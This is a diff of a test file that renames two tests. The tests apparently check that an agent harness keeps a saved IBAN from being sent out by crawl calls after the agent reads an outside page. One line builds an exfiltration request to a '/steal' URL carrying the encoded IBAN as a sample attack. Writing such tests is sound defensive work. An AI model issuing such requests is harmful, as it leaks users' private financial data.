@@ -145,7 +145,7 @@ describe('a saved value', () => {
     expect(site.asked.filter((target) => target.includes('steal'))).toEqual([]);
   });
 
-  test('does not leave by a call that goes out beside the one that reads it', async () => {
+  test('does not leave by a call of the same turn as the call that reads it', async () => {
     await run([[save('iban', iban)]]);
     const steal = crawl(`${site.url}/steal?d=${encodeURIComponent(iban)}`);
     const results = resultsOf(await run([[page()], [read('iban'), steal]]));
@@ -206,7 +206,7 @@ describe('a value under a new name', () => {
     }
   });
 
-  test('is saved ten times by a run that has read a page, and then under these names alone', async () => {
+  test('is saved under at most ten names by a run that has read a page', async () => {
     const saves = Array.from({ length: limits.savedNamesAfterOutside }, (_, i) => save(`new-${i}`, 'x'));
     const [first, ...others] = saves;
     const turns = [
